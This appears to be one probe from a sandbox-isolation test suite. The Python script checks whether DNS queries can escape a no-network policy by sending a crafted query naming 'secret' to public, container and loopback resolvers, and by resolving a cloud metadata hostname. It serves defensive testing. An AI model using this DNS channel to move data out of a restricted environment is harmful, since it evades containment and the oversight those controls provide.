# ---
# id: 87
# name: dns-exfiltration
# title: Carry data out in names that are looked up
# class: network
# techniques: [T1048.003, T1071.004]
# defences: [no_network, no resolver]
# wallMs: 10000
# control:
#   without: [seccomp, syscall_tier]
# ---
"""A resolver forwards any name to whoever owns its end, also where nothing else may leave. The control asks a resolver
of its own on loopback.
"""
import errno
import json
import socket
import sys
import threading

try:
    socket.socket().close()
except PermissionError:
    print(json.dumps({"reached": False, "saw": "a policy without sockets: none can be made"}))
    sys.exit()

QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"
resolvers = ["127.0.0.11", "127.0.0.53", "8.8.8.8", "1.1.1.1", "172.17.0.1", "10.96.0.10"]
port = 53
if sys.argv[2] == "control":
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    port = server.getsockname()[1]
    resolvers = ["127.0.0.1"]
    threading.Thread(target=lambda: server.sendto(*server.recvfrom(512)), daemon=True).start()
answers = {}
for host in resolvers:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.3)
        try:
            client.connect((host, port))
            client.send(QUERY)
            answers[host] = f"{len(client.recv(512))} bytes"
        except TimeoutError:
            answers[host] = "sent"
        except OSError as error:
            answers[host] = errno.errorcode[error.errno]
for name in ("secret.example.com", "metadata.google.internal"):
    try:
        answers[name] = socket.getaddrinfo(name, 80)[0][4][0]
    except OSError:
        answers[name] = "E-name"
got = [name for name, answer in answers.items() if not answer.startswith("E")]
saw = ", ".join(f"{name} {answer}" for name, answer in answers.items())
print(json.dumps({"reached": bool(got), "saw": saw}))
